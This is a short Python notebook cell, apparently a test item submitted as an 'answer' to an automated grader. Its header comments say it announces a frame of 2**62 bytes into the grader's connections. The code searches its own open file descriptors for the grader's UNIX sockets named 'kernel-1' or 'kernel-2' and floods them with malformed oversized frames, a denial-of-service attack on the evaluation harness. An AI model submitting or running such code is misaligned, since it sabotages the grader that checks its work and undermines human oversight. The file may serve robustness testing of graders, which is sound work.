# What: announces a frame of 2**62 bytes, and frames without end, straight into the connections of the grader
# Ends: timeout, limit, error, recorded

# %% answer
import os, socket, struct, time

for number in map(int, os.listdir("/proc/self/fd")):
    try:
        end = socket.socket(fileno=os.dup(number))
        end.getpeername()
        if end.family == socket.AF_UNIX and str(end.getsockname()).endswith(("kernel-1", "kernel-2")):
            end.sendall(b"\x00\x00" * 1000 + b"\x04\x00" * 1000 + b"\x03" + struct.pack(">Q", 2**62) + b"x" * 100_000)
    except OSError:
        pass
time.sleep(60)
